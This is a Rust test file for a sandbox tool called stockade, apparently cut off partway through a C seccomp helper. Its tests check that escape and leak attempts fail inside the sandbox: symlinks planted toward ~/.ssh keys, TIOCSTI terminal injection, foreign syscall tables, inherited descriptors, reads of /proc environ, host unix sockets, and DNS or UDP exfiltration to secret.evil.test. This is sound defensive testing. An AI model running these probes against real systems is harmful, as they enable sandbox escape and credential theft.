//! Open cases of the kind "gets out or leaks", one test each, named after the
//! case. Each first shows, where it can, that the same action succeeds outside.

use std::fs;
use std::io::Read;
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use stockade_testkit::pty::Terminal;
use stockade_testkit::tools::{compile_c, compile_c_with};
use stockade_testkit::{Finished, World, binary, has_program, is_root, skip};

fn both(finished: &Finished) -> String {
    format!("stdout: {}\nstderr: {}", finished.stdout, finished.stderr)
}

/// Whether python3 is there; says so when not.
fn has_python(test: &str) -> bool {
    let there = has_program("python3");
    if !there {
        skip(test, "python", "there is no python3 on PATH");
    }
    there
}

/// The same directory and environment as stockade's, for another program.
fn caller(world: &World, program: &str) -> Command {
    let template = world.stockade();
    let mut other = Command::new(program);
    other
        .env_clear()
        .current_dir(&world.project)
        .stdin(Stdio::null());
    for (name, value) in template.get_envs() {
        other.env(name, value.unwrap());
    }
    other
}

/// A bash script in which `$0` is stockade.
fn script(world: &World, text: &str) -> Finished {
    Finished::of(
        caller(world, "bash")
            .args(["-c", text])
            .arg(binary())
            .output()
            .unwrap(),
    )
}

#[test]
fn b09_links_made_inside_do_not_steer_the_next_run() {
    let world = World::new();
    let secret = world.write(".ssh/id", "secret-key\n");
    let notes = world.write("notes/file", "private-notes\n");
    let plant = "ln -s \"$HOME/.ssh/id\" x; ln -s \"$HOME/.ssh\" d; ln -s \"$HOME/notes\" n; \
        ln -s \"$HOME/notes/file\" f; ln -s .. up; ln -s / root; ln -s /proc/1/root proc; \
        mkdir -p .git; ln -s \"$HOME/notes\" .git/objects; echo \"gitdir: $HOME/notes\" > .gitfile";
    world.sh(plant).expect_code(0);
    assert_eq!(
        world.outside_sh("cat x").ok(),
        "secret-key",
        "the links do lead there outside"
    );
    let read = "cat x d/id n/file f up/notes/file root$HOME/notes/file proc$HOME/.ssh/id \
        .git/objects/file; for p in x d/id n/file f up/.bashrc .git/objects/new; do echo evil > $p; done; true";
    for options in [&[][..], &["--read", "toolchains"]] {
        let inside = world.run(options, &["sh", "-c", read]);
        assert_eq!(inside.stdout, "", "{}", both(&inside));
        let entered = world.sh("(cd d && cat id); cd n && cat file");
        assert_ne!(entered.code, Some(0), "{}", both(&entered));
    }
    // A link as the place to run in, or as the project, leads out: refused.
    for options in [["-C", "d"], ["-C", "n"], ["-C", "up"], ["-C", "root"]] {
        let inside = world.run(&options, &["pwd"]);
        assert_eq!(inside.code, Some(125), "{options:?} {}", both(&inside));
    }
    assert_eq!(fs::read_to_string(secret).unwrap(), "secret-key\n");
    assert_eq!(fs::read_to_string(notes).unwrap(), "private-notes\n");
    assert_eq!(fs::read_dir(world.home.join("notes")).unwrap().count(), 1);
    assert!(!world.home.join(".bashrc").exists());
}

#[test]
fn b09_a_granted_directory_that_became_a_link() {
    let world = World::new();
    world.write(".ssh/id", "secret-key\n");
    world.write("notes/file", "private-notes\n");
    for target in ["notes", ".ssh"] {
        world.policy("[filesystem]\nwrite = [\".\", \"~/project/out\"]\n");
        fs::create_dir_all(world.project.join("out")).unwrap();
        let swap = format!("rmdir out && ln -s \"$HOME/{target}\" out");
        // A mount point cannot be swapped from inside; from another run whose
        // policy does not name it, it can.
        fs::write(
            world.home.join(".config/stockade/stockade.toml"),
            "version = 1\n",
        )
        .unwrap();
        world.sh(&swap).expect_code(0);
        world.policy("[filesystem]\nwrite = [\".\", \"~/project/out\"]\n");
        let inside = world.sh("cat out/*; echo evil > out/planted; true");
        assert_eq!(inside.stdout, "", "{target}: {}", both(&inside));
        assert!(
            !world.home.join(target).join("planted").exists(),
            "{target}"
        );
        fs::remove_file(world.project.join("out")).unwrap();
    }
}

#[test]
fn b09_the_product_writes_through_no_link_made_inside() {
    let world = World::new();
    let rc = world.write(".bashrc", "mine\n");
    let plant = "ln -s ../.bashrc report.json; ln -s ../.new new.json; ln -s .. dir; \
        ln -s ../.profile stockade.toml";
    world.sh(plant).expect_code(0);
    // That link is held; a run of an older version may have made it.
    assert!(fs::symlink_metadata(world.project.join("stockade.toml")).is_err());
    symlink("../.profile", world.project.join("stockade.toml")).unwrap();
    for file in ["report.json", "new.json", "dir/.bashrc", "dir/made.json"] {
        let finished = world.run(&["--report", file], &["touch", "marker"]);
        assert_eq!(finished.code, Some(125), "{file}: {}", both(&finished));
        assert!(
            finished.stderr.contains("link"),
            "{file}: {}",
            both(&finished)
        );
        assert!(!world.project.join("marker").exists());
    }
    let initialised = world.stockade().arg("init").output().unwrap();
    assert!(!initialised.status.success());
    assert_eq!(fs::read_to_string(rc).unwrap(), "mine\n");
    for name in [".new", "made.json", ".profile"] {
        assert!(!world.home.join(name).exists(), "{name}");
    }
    // The control: an ordinary place, and the usual device links.
    fs::remove_file(world.project.join("stockade.toml")).unwrap();
    world
        .run(&["--report", "plain.json"], &["true"])
        .expect_code(0);
    assert!(world.project.join("plain.json").exists());
    assert!(
        script(&world, "\"$0\" run --report /dev/stdout -- true")
            .ok()
            .contains("exit_code")
    );
}

const INJECT: &str = r#"
import array, fcntl, os, sys
done = []
def attempt(fd, name):
    for request in (0x5412, 0x5412 | 1 << 32, 0x5412 | 1 << 63):
        for byte in b"echo inj''ected\n":
            try:
                fcntl.ioctl(fd, request & 0xffffffffffffffff, bytes([byte])); done.append((name, hex(request)))
            except (OSError, OverflowError, ValueError): pass
    for code in (2, 3, 10, 13):
        try: fcntl.ioctl(fd, 0x541C, array.array("B", [code] + [0] * 15)); done.append((name, "TIOCLINUX"))
        except OSError: pass
for number in (0, 1, 2):
    attempt(number, number)
for place in ("/dev/tty", "/proc/self/fd/0", "/dev/console"):
    try: attempt(os.open(place, os.O_RDWR), place)
    except OSError: pass
print("tried", done, flush=True)
"#;

#[test]
fn b11_typing_into_the_callers_terminal() {
    if !has_python("b11") || !has_program("bash") {
        return;
    }
    let world = World::new();
    world.write("project/inject.py", INJECT);
    let injected = |command: &str| {
        let mut shell = caller(&world, "bash");
        shell
            .args(["--norc", "--noprofile", "-i"])
            .env("PS1", "ready> ")
            .env("TERM", "dumb");
        let mut terminal = Terminal::start(shell.arg("-s").env("SB", binary()));
        terminal.expect("ready> ");
        terminal.send(format!("{command}\n").as_bytes());
        terminal.expect("tried [");
        // What was typed into the terminal would run now.
        terminal.watch(Duration::from_secs(2)).contains("injected")
    };
    let legacy = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or_default();
    if legacy.trim() == "1" {
        assert!(
            injected("python3 inject.py"),
            "the control: it works outside"
        );
    }
    for command in [
        "$SB run -- python3 inject.py",
        "$SB run -- python3 inject.py < /dev/null",
        "echo | $SB run -- python3 inject.py",
        "$SB run -- python3 inject.py 2>&1 | cat",
        "$SB run -- setsid -w python3 inject.py",
    ] {
        assert!(!injected(command), "{command}");
    }
}

const RING: &str = r#"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
  char parameters[256] = {0};
  long calls[3][4] = {{425, 8, (long)parameters, 0}, {426, 0, 1, 0}, {427, 0, 0, 0}};
  for (int i = 0; i < 3; i++) {
    errno = 0;
    long result = syscall(calls[i][0], calls[i][1], calls[i][2], calls[i][3], 0, 0);
    printf("%s ", result >= 0 ? "made" : errno == ENOSYS || errno == EPERM ? "refused" : "passed");
  }
  return 0;
}
"#;

#[test]
fn b13_io_uring() {
    let world = World::new();
    let Some(program) = compile_c(&world, "b13", "ring", RING) else {
        return;
    };
    let outside = Finished::of(Command::new(&program).output().unwrap()).ok();
    if !outside.starts_with("made") {
        skip(
            "b13 (control)",
            "io_uring",
            "no ring can be made outside either",
        );
    }
    assert_eq!(world.run(&[], &[&program]).ok(), "refused refused refused");
    assert_eq!(
        world.run(&["--nested-sandbox"], &[&program]).ok(),
        "refused refused refused"
    );
    if has_program("node") {
        let read = "require('fs').readFile('ring', (e, d) => console.log(e || d.length > 0))";
        let mut command = world.stockade();
        command.env("UV_USE_IO_URING", "1");
        command.args(["run", "--env", "UV_USE_IO_URING", "--", "node", "-e", read]);
        assert_eq!(Finished::of(command.output().unwrap()).ok(), "true");
    } else {
        skip("b13 (node)", "node", "there is no node on PATH");
    }
}

/// Calls by another table. Prints the name of each that was let through.
const FOREIGN: &str = r#"
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static long int80(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  return (int)result;
}
static void attempt(const char *name, int how, long number, long a, long b, long c) {
  /* In a child: the filter may end it. */
  fflush(stdout);
  pid_t child = fork();
  if (!child) {
    long result = how ? syscall(number, a, b, c) : int80(number, a, b, c);
    if (how && result < 0) result = -errno;
    _exit(!(result == -ENOSYS || result == -EPERM));
  }
  int status; waitpid(child, &status, 0);
  if (!WIFSIGNALED(status) && WEXITSTATUS(status)) { printf("%s\n", name); }
}
int main(void) {
  unsigned *low = mmap(0, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  low[0] = 16; low[1] = 3; low[2] = 0; /* AF_NETLINK, SOCK_RAW */
  attempt("int80 getpid", 0, 20, 0, 0, 0);
  attempt("int80 socketcall", 0, 102, 1, (long)low, 0);
  attempt("int80 socket", 0, 359, 16, 3, 0);
  attempt("int80 keyctl", 0, 288, 0, -3, 0);
  attempt("int80 io_uring_setup", 0, 425, 8, (long)low, 0);
  attempt("int80 unshare", 0, 310, 0x10000000, 0, 0);
  long x32 = 0x40000000;
  attempt("x32 getpid", 1, x32 + 39, 0, 0, 0);
  attempt("x32 socket", 1, x32 + 41, 16, 3, 0);
  attempt("x32 keyctl", 1, x32 + 250, 0, -3, 0);
  attempt("x32 ptrace", 1, x32 + 521, 0, 0, 0);
  attempt("x32 unshare", 1, x32 + 272, 0x10000000, 0, 0);
  puts("end");
  return 0;
}
"#;

/// A static 32-bit program: write(1, "ran\n"), exit(0).
const NARROW: &str = r#"
__attribute__((noreturn)) void _start(void) {
  static const char text[] = "ran\n"; int result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(4), "b"(1), "c"(text), "d"(4) : "memory");
  for (;;) __asm__ volatile("int $0x80" : "=a"(result) : "a"(1), "b"(0) : "memory");
}
"#;

#[test]
fn b14_foreign_system_call_tables() {
    if !cfg!(target_arch = "x86_64") {
        return skip("b14", "x86_64", "other processors have one table");
    }
    let world = World::new();
    let Some(program) = compile_c(&world, "b14", "foreign", FOREIGN) else {
        return;
    };
    let outside = Finished::of(Command::new(&program).output().unwrap()).ok();
    if !outside.contains("int80 socketcall") {
        skip("b14 (control)", "ia32", "this kernel has no 32-bit calls");
    }
    assert_eq!(world.run(&[], &[&program]).ok(), "end");
    assert_eq!(world.run(&["--nested-sandbox"], &[&program]).ok(), "end");
    let options = [
        "-m32",
        "-nostdlib",
        "-static",
        "-fno-pie",
        "-no-pie",
        "-fno-stack-protector",
    ];
    let Some(narrow) = compile_c_with(&world, "b14", "narrow", NARROW, &options) else {
        return;
    };
    let outside = Command::new(&narrow).output();
    if !outside.is_ok_and(|output| output.stdout == b"ran\n") {
        skip(
            "b14 (control)",
            "ia32",
            "this kernel runs no 32-bit programs",
        );
    }
    let inside = world.run(&["--wall-time", "20s"], &[&narrow]);
    assert_ne!(inside.code, Some(0), "{}", both(&inside));
    assert_eq!(inside.stdout, "");
}

#[test]
fn b15_inherited_descriptors() {
    if !has_program("bash") || !has_python("b15") {
        return;
    }
    let world = World::new();
    world.write(world.outside().join("secret"), "secret\n");
    world.write(world.outside().join("hidden/file"), "secret\n");
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    // The last command of each gets all of them.
    let open = format!(
        "exec 9<../../secret 200<../../secret 8<../../hidden 7<>/dev/tcp/127.0.0.1/{port} 6>>../../secret; "
    );
    let look = "import os, sys\nfound = [n for n in os.listdir('/proc/self/fd') if n not in '012']\n\
        for n in list(found):\n try: os.fstat(int(n))\n except OSError: found.remove(n)\n\
        print(found)\n\
        for n in (6, 7, 8, 9, 200):\n try: os.fstat(n); print('open', n)\n except OSError: pass\n\
        try: print(os.listdir('/proc/self/fd/8/..'))\nexcept OSError: pass";
    world.write("project/look.py", look);
    let outside = script(&world, &format!("{open} exec python3 look.py")).ok();
    assert!(
        outside.contains("open 9") && outside.contains("open 200"),
        "the control: {outside}"
    );
    for options in ["", "--nested-sandbox"] {
        let inside = script(
            &world,
            &format!("{open} exec \"$0\" run {options} -- python3 look.py"),
        );
        assert_eq!(inside.clone().ok(), "[]", "{}", both(&inside));
    }
    let inside = script(
        &world,
        &format!("{open} \"$0\" run -- bash -c 'cat <&9; cat <&200; echo x >&6'"),
    );
    assert_eq!(inside.stdout, "", "{}", both(&inside));
    assert_eq!(
        fs::read_to_string(world.outside().join("secret")).unwrap(),
        "secret\n"
    );
}

#[test]
fn b15_a_descriptor_as_working_directory() {
    if !has_program("bash") {
        return skip("b15", "bash", "there is no bash on PATH");
    }
    let world = World::new();
    world.write(world.outside().join("hidden/file"), "secret\n");
    for place in [
        "/proc/self/fd/8",
        "/dev/fd/8",
        "/proc/self/fd/8/..",
        "/proc/self/cwd/../../hidden",
    ] {
        let finished = script(
            &world,
            &format!("exec 8<../../hidden; exec \"$0\" run -C {place} -- cat file"),
        );
        assert_eq!(finished.code, Some(125), "{place} {}", both(&finished));
        assert_eq!(finished.stdout, "");
    }
}

#[test]
fn b15_standard_descriptors_gain_no_rights() {
    if !has_program("bash") {
        return skip("b15", "bash", "there is no bash on PATH");
    }
    let world = World::new();
    let file = world.write(world.outside().join("input"), "kept\n");
    let reopen = "for p in /proc/self/fd/0 /dev/stdin /dev/fd/0; do echo evil > $p; done; \
        timeout 1 cat /proc/self/fd/1 > got; for p in /proc/self/fd/1/.. /proc/self/fd/0/..; do ls $p; done; exit 0";
    let text = format!("\"$0\" run -- bash -c '{reopen}' < ../../input >> ../../output");
    let inside = script(&world, &text).expect_code(0);
    assert_eq!(
        fs::read_to_string(file).unwrap(),
        "kept\n",
        "{}",
        both(&inside)
    );
    // The control.
    script(
        &world,
        "bash -c 'echo evil > /proc/self/fd/0' < ../../input",
    )
    .expect_code(0);
    assert_eq!(
        fs::read_to_string(world.outside().join("input")).unwrap(),
        "evil\n"
    );
}

#[test]
fn b17_the_launchers_environment() {
    if !has_python("b17") {
        return;
    }
    let world = World::new();
    let look = r#"
import glob, os, sys
needle = b"s3cret" + b"-value"
def holds(path):
    try: return needle in open(path, "rb").read()
    except OSError: return False
names = ("environ", "cmdline", "comm", "auxv", "maps", "stat", "status")
found = [p for n in names for p in glob.glob("/proc/*/" + n) + glob.glob("/proc/*/task/*/" + n) if holds(p)]
print("found" if found else "clean", sorted({p.split("/")[2] for p in found}))
try: print(len(open("/proc/1/environ", "rb").read()))
except OSError: print(0)
for place in ("/proc/1/mem", "/proc/1/fd/0", "/proc/1/root/etc", "/proc/1/cwd"):
    try: os.open(place, os.O_RDONLY); print("opened", place)
    except OSError: pass
"#;
    world.write("project/look.py", look);
    let run = |options: &[&str]| {
        let mut command = world.stockade();
        command
            .env("SECRET", "s3cret-value")
            .arg("run")
            .args(options);
        Finished::of(command.args(["--", "python3", "look.py"]).output().unwrap())
    };
    assert_eq!(run(&[]).ok(), "clean []\n0");
    assert_eq!(run(&["--nested-sandbox"]).ok(), "clean []\n0");
    assert!(
        run(&["--env", "SECRET"]).ok().starts_with("found"),
        "the control: it looks well"
    );
}

/// Binds every kind of socket at the places given, one a line: kind, name.
/// Each answers with its own name and notes that it was reached.
const LISTENERS: &str = r#"
import os, select, socket, sys
kinds = {"stream": socket.SOCK_STREAM, "dgram": socket.SOCK_DGRAM, "seqpacket": socket.SOCK_SEQPACKET}
sockets = {}
for line in sys.stdin:
    kind, name = line.rstrip("\n").split(" ", 1)
    if name.startswith("cd "):
        os.chdir(name[3:]); continue
    s = socket.socket(socket.AF_UNIX, kinds[kind])
    s.bind(name.replace("@", "\0", 1) if name.startswith("@") else name)
    if kind != "dgram": s.listen()
    sockets[s] = (kind, name)
print("ready", flush=True)
while True:
    for s in select.select(list(sockets), [], [])[0]:
        kind, name = sockets[s]
        peer = s.recv(10) if kind == "dgram" else s.accept()
        print(name, flush=True)
"#;

const CONNECT: &str = r#"
import socket, sys
for argument in sys.argv[1:]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        name = "\0" + argument[1:] if argument.startswith("@") else argument
        s = socket.socket(socket.AF_UNIX, kind)
        try: s.connect(name); s.send(b"x"); print("reached", argument)
        except OSError: pass
"#;

/// Host services on unix sockets; ended when dropped.
struct Listeners(Child);

impl Listeners {
    fn start(world: &World, binds: &[String]) -> Self {
        let mut child = caller(world, "python3")
            .args(["-c", LISTENERS])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut input = child.stdin.take().unwrap();
        std::io::Write::write_all(&mut input, (binds.join("\n") + "\n").as_bytes()).unwrap();
        drop(input);
        let mut ready = [0; 6];
        child
            .stdout
            .as_mut()
            .unwrap()
            .read_exact(&mut ready)
            .unwrap();
        assert_eq!(&ready, b"ready\n");
        Self(child)
    }
}

impl Drop for Listeners {
    fn drop(&mut self) {
        let _ended = self.0.kill().is_err();
        let _reaped = self.0.wait().is_err();
    }
}

/// Kinds and names of sockets, some relative to the project.
fn b19_places(world: &World, id: u32) -> Vec<(&'static str, String)> {
    let home = world.home.to_str().unwrap().to_owned();
    let project = world.project.to_str().unwrap().to_owned();
    let mut places = vec![
        ("stream", format!("{home}/x.sock")),
        ("stream", format!("/tmp/stockade-b19-{id}.sock")),
        ("stream", format!("{project}/absolute.sock")),
        ("dgram", format!("{project}/run/log.sock")),
        ("seqpacket", format!("{project}/run/packets.sock")),
        ("stream", format!("{project}/run/docker.sock")),
        ("stream", "relative.sock".to_owned()),
        ("stream", "./run/dotted.sock".to_owned()),
        ("stream", "../project/run/up.sock".to_owned()),
        ("stream", format!("@stockade-b19-{id}")),
    ];
    if is_root() {
        places.push(("stream", format!("/run/stockade-b19-{id}.sock")));
    }
    places
}

/// Binds the places and gives some of the files other names.
fn b19_bind(world: &World, places: &[(&'static str, String)]) -> Listeners {
    let project = world.project.to_str().unwrap();
    fs::create_dir_all(world.project.join("run/deep")).unwrap();
    let mut binds: Vec<String> = places
        .iter()
        .map(|(kind, name)| format!("{kind} {name}"))
        .collect();
    binds.push(format!("stream cd {project}/run/deep"));
    binds.push("stream below.sock".into());
    let listeners = Listeners::start(world, &binds);
    // Other names for what was bound.
    fs::rename(
        world.project.join("run/up.sock"),
        world.project.join("run/renamed.sock"),
    )
    .unwrap();
    fs::hard_link(
        world.project.join("absolute.sock"),
        world.project.join("linked.sock"),
    )
    .unwrap();
    fs::hard_link(
        world.home.join("x.sock"),
        world.project.join("run/deep/home.sock"),
    )
    .unwrap();
    symlink(
        world.home.join("x.sock"),
        world.project.join("symbolic.sock"),
    )
    .unwrap();
    listeners
}

#[test]
fn b19_unix_sockets_of_the_host() {
    if !has_python("b19") {
        return;
    }
    let world = World::new();
    let id = std::process::id();
    let places = b19_places(&world, id);
    let listeners = b19_bind(&world, &places);
    let mut targets: Vec<String> = places.into_iter().map(|(_, name)| name).collect();
    targets.retain(|name| !name.ends_with("up.sock"));
    targets.extend(
        [
            "run/renamed.sock",
            "linked.sock",
            "symbolic.sock",
            "run/deep/home.sock",
            "run/deep/below.sock",
        ]
        .map(str::to_owned),
    );
    let argv = |targets: &[String]| {
        let mut argv = vec!["python3".to_owned(), "-c".into(), CONNECT.into()];
        argv.extend_from_slice(targets);
        argv
    };
    for options in [&[][..], &["--read", "toolchains"]] {
        let inside = world.run(options, &argv(&targets));
        assert_eq!(inside.clone().ok(), "", "{}", both(&inside));
    }
    // The same names, moved and linked from inside.
    let moved = "mv absolute.sock m.sock; ln relative.sock l.sock; mv run ran; \
        exec python3 -c \"$0\" m.sock l.sock absolute.sock ran/docker.sock run/docker.sock ran/deep/home.sock";
    let inside = world.run(&[], &["sh", "-c", moved, CONNECT]);
    assert_eq!(inside.stdout, "", "{}", both(&inside));
    let outside = Finished::of(
        caller(&world, "python3")
            .args(&argv(&targets)[1..])
            .output()
            .unwrap(),
    );
    // The control: outside each of them answers, if nothing moved it above.
    for target in targets.iter().filter(|target| !target.contains("run/")) {
        let there = !target.ends_with("project/absolute.sock")
            || world.project.join("absolute.sock").exists();
        let line = format!("reached {target}\n");
        assert!(
            !there || outside.stdout.contains(&line),
            "{line} {}",
            both(&outside)
        );
    }
    drop(listeners);
    for name in [
        format!("/tmp/stockade-b19-{id}.sock"),
        format!("/run/stockade-b19-{id}.sock"),
    ] {
        let _absent = fs::remove_file(name).is_err();
    }
}

#[test]
fn b21_datagrams_and_names_do_not_leave() {
    if !has_python("b21") {
        return;
    }
    let world = World::new();
    let sink = UdpSocket::bind("0.0.0.0:0").unwrap();
    sink.set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let stream = TcpListener::bind("0.0.0.0:0").unwrap();
    // Finding the machine's own address sends nothing.
    let own = UdpSocket::bind("0.0.0.0:0")
        .and_then(|socket| {
            socket
                .connect("192.0.2.1:9")
                .and_then(|()| socket.local_addr())
        })
        .map_or_else(
            |_| "127.0.0.1".to_owned(),
            |address| address.ip().to_string(),
        );
    let send = r#"
import os, socket, struct, sys
udp, tcp, own = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"
def attempt(make):
    try: make()
    except OSError: pass
for host in ("127.0.0.1", own, "0.0.0.0", "169.254.169.254", "224.0.0.1", "255.255.255.255"):
    def plain():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(query, (host, udp))
    def connected():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((host, udp)); s.sendmsg([query])
    def fast():
        s = socket.socket(); s.settimeout(3); s.sendto(query, 0x20000000, (host, tcp))
    def slow(): socket.create_connection((host, tcp), 3)
    def ping():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b"\x08\0\0\0\0\0\0\0", (host, 0))
    for make in (plain, connected, fast, slow, ping): attempt(make)
def mapped():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(query, ("::ffff:127.0.0.1", udp))
attempt(mapped)
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW)):
    try: socket.socket(family, kind); print("socket", family)
    except OSError: pass
try: print("resolved", socket.getaddrinfo("secret.evil.test", 80))
except OSError: print("no name")
"#;
    let ports = [
        sink.local_addr().unwrap().port(),
        stream.local_addr().unwrap().port(),
    ];
    let argv = [
        "python3",
        "-c",
        send,
        &ports[0].to_string(),
        &ports[1].to_string(),
        &own,
    ]
    .map(str::to_owned);
    let inside = world.run(&[], &argv).ok();
    let lines: Vec<&str> = inside
        .lines()
        .filter(|line| *line != format!("socket {}", 16))
        .collect();
    assert_eq!(lines, ["no name"], "{inside}");
    let mut buffer = [0; 512];
    assert!(sink.recv(&mut buffer).is_err(), "a datagram arrived");
    stream.set_nonblocking(true).unwrap();
    assert!(stream.accept().is_err(), "a connection arrived");
    if has_program("curl") {
        let finished = world.sh("curl -sS -m 5 http://secret.evil.test/");
        assert_ne!(finished.code, Some(0), "{}", both(&finished));
    }
    // The control.
    caller(&world, "python3").args(&argv[1..]).output().unwrap();
    assert!(sink.recv(&mut buffer).is_ok() && stream.accept().is_ok());
}

#[test]
fn b26_an_empty_allowlist_allows_nothing() {
    if !has_python("b26") {
        return;
    }
    let world = World::new();
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let connect = "import socket, sys\ntry: socket.create_connection(('127.0.0.1', int(sys.argv[1])), 3); \
        print('reached')\nexcept OSError: print('denied')";
    let argv = ["python3", "-c", connect, &port];
    for policy in ["", "[network]\nallow = []\n", "[network]\n"] {
        world.policy(policy);
        for options in [
            &[][..],
            &["--preset", "default"],
            &["--nested-sandbox"],
            &["--read", "toolchains"],
        ] {
            let inside = world.run(options, &argv);
            assert_eq!(
                inside.clone().ok(),
                "denied",
                "{policy} {options:?} {}",
                both(&inside)
            );
        }
    }
    // Proxy variables of the caller open no way either.
    let mut command = world.stockade();
    for name in ["http_proxy", "HTTPS_PROXY", "ALL_PROXY"] {
        command.env(name, format!("http://127.0.0.1:{port}"));
    }
    let url = format!("http://127.0.0.1:{port}/");
    if has_program("curl") {
        let command = command.args(["run", "--", "curl", "-sS", "-m", "5", &url]);
        assert_ne!(Finished::of(command.output().unwrap()).code, Some(0));
    }
    // A list that names other hosts does not open this one.
    world.policy("[network]\nallow = [\"ok.test\"]\n");
    let inside = world.run(&[], &argv);
    assert!(
        inside.code == Some(125) || inside.stdout.trim() == "denied",
        "{}",
        both(&inside)
    );
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "something connected");
    listener.set_nonblocking(false).unwrap();
    assert_eq!(
        Finished::of(caller(&world, "python3").args(&argv[1..]).output().unwrap()).ok(),
        "reached"
    );
}

/// A run that must be refused: nothing runs, and it says so everywhere.
struct Refusals<'a> {
    world: &'a World,
}

impl Refusals<'_> {
    /// `prepare` is a shell script that ends in `"$@"`, the stockade command.
    #[track_caller]
    fn expect(&self, prepare: &str, options: &[&str], words: &[&str]) {
        let marker = self.world.project.join("marker");
        let report = self.world.outside().join("report.json");
        let _absent = fs::remove_file(&report).is_err();
        let mut command = caller(self.world, "sh");
        command
            .args(["-c", prepare, "sh"])
            .arg(binary())
            .args(["run", "--report"])
            .arg(&report);
        command.args(options).arg("--").arg("touch").arg(&marker);
        let finished = Finished::of(command.output().unwrap());
        let what = format!("{prepare} {options:?}\n{}", both(&finished));
        assert!(!marker.exists(), "it ran: {what}");
        assert_eq!(finished.code, Some(125), "{what}");
        let said = finished.stderr.to_lowercase();
        assert!(
            words.iter().any(|word| said.contains(word)),
            "{words:?}: {what}"
        );
        let report: serde_json::Value =
            serde_json::from_slice(&fs::read(&report).expect(&what)).expect(&what);
        assert_eq!(report["outcome"], "refused", "{what}");
        assert_eq!(report["exit_code"], 125, "{what}");
        assert_ne!(report["message"], "", "{what}");
    }
}

#[test]
fn b30_a_policy_that_cannot_be_read() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    let user = world.policy("");
    let broken: &[(&str, &[u8])] = &[
        ("malformed", b"version = 1\n[filesystem\n"),
        (
            "an unknown key",
            b"version = 1\n[filesystem]\nreed = [\"/opt\"]\n",
        ),
        ("an unknown table", b"version = 1\n[filesytem]\nread = []\n"),
        ("a wrong type", b"version = 1\n[network]\nallow = \"*\"\n"),
        ("no version", b"[network]\nallow = []\n"),
        ("another version", b"version = 99\n"),
        ("not UTF-8", b"version = 1\n# \xff\xfe\n"),
        ("a NUL", b"version = 1\n\0"),
    ];
    for (name, content) in broken {
        fs::write(&user, content).unwrap();
        refusals.expect("exec \"$@\"", &[], &["policy", "stockade.toml"]);
        fs::write(&user, "version = 1\n").unwrap();
        let project = world.write("project/stockade.toml", content);
        refusals.expect("exec \"$@\"", &[], &["policy", "stockade.toml"]);
        fs::remove_file(project).unwrap();
        println!("{name}: refused");
    }
    fs::write(
        &user,
        [b"version = 1\n".to_vec(), vec![b'#'; 10 << 20]].concat(),
    )
    .unwrap();
    refusals.expect("exec \"$@\"", &[], &["1 mib", "policy"]);
    fs::remove_file(&user).unwrap();
    fs::create_dir(&user).unwrap();
    refusals.expect("exec \"$@\"", &[], &["stockade.toml", "policy"]);
    fs::remove_dir(&user).unwrap();
    if !is_root() {
        fs::write(&user, "version = 1\n").unwrap();
        fs::set_permissions(&user, fs::Permissions::from_mode(0o000)).unwrap();
        refusals.expect("exec \"$@\"", &[], &["stockade.toml", "policy"]);
        fs::remove_file(&user).unwrap();
    }
    symlink("/nonexistent/policy", &user).unwrap();
    refusals.expect("exec \"$@\"", &[], &["stockade.toml", "policy"]);
    fs::remove_file(&user).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(&user)
            .status()
            .unwrap()
            .success()
    );
    refusals.expect("exec timeout 20 \"$@\"", &[], &["stockade.toml", "policy"]);
    fs::remove_file(&user).unwrap();
    for options in [
        ["--preset", "no-such"],
        ["--memory", "lots"],
        ["--write", "/no/such/place"],
        ["--read", "/no/such/place"],
        ["--wall-time", "soon"],
        ["--processes", "0"],
    ] {
        refusals.expect(
            "exec \"$@\"",
            &options,
            &[options[1], options[0].trim_start_matches('-'), "policy"],
        );
    }
    world.run(&[], &["touch", "marker"]).expect_code(0);
}

/// Ends in `exec`ing its arguments under a filter that refuses some calls.
const DENY: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>
#define LOAD(field) BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, field))
int main(int count, char **arguments) {
  /* deny ERRNO NUMBER,NUMBER,… COMMAND: also clone and unshare with CLONE_NEWUSER when 56 is listed. */
  int answer = atoi(arguments[1]), length = 0;
  struct sock_filter program[64];
